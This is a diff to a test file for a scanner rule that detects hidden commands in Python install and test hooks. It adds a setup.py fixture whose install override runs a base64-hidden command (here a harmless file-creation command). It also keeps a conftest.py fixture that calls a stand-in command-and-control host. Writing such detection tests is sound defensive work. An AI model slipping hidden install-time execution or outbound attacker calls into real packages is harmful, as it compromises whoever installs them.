@@ -15,6 +15,11 @@ ruleTest(rule, {
     },
     { name: 'Django manage.py is not an install hook', file: 'manage.py', code: `import os, sys\nif __name__ == "__main__":\n    os.environ.setdefault("DJANGO_SETTINGS_MODULE", "site.settings")\n    from django.core.management import execute_from_command_line\n    execute_from_command_line(sys.argv)\n` },
     { name: '__init__ with functions only', file: 'pkg/__init__.py', code: `import subprocess\ndef run(cmd):\n    return subprocess.run(cmd, shell=True)\n` },
+    {
+      name: 'setup.py running a plain-text build command held in a variable',
+      file: 'setup.py',
+      code: `import subprocess\nfrom setuptools import setup\nCMD = "git " + "describe --tags"\nsubprocess.check_output(CMD, shell=True)\nsetup(name="p")\n`,
+    },
   ],
   flagged: [
     {
@@ -67,6 +72,12 @@ ruleTest(rule, {
       file: 'tests/conftest.py',
       code: `import urllib.request\nurllib.request.urlopen("https://c2.example-bad.net/p?x=1")\n`,
       findings: [{ line: 2, message: /when pytest collects the tests/ }],
+    },
+    {
+      name: 'install override running a base64-hidden command',
+      file: 'setup.py',
+      code: `import base64, os\nfrom setuptools import setup\nfrom setuptools.command.install import install\ndef b64d(s):\n    return base64.b64decode(s.encode('ascii')).decode('ascii')\ndef go():\n    os.system(b64d("dHlwZSBudWwgPiBwcnVlYmEzMy50eHQ="))\nclass I(install):\n    def run(self):\n        install.run(self)\n        go()\nsetup(name="p", cmdclass={"install": I})\n`,
+      findings: [{ line: 7, message: /Runs a command hidden by base64 at install time/, severity: 'critical', confidence: 'high' }],
     },
   ],
 });
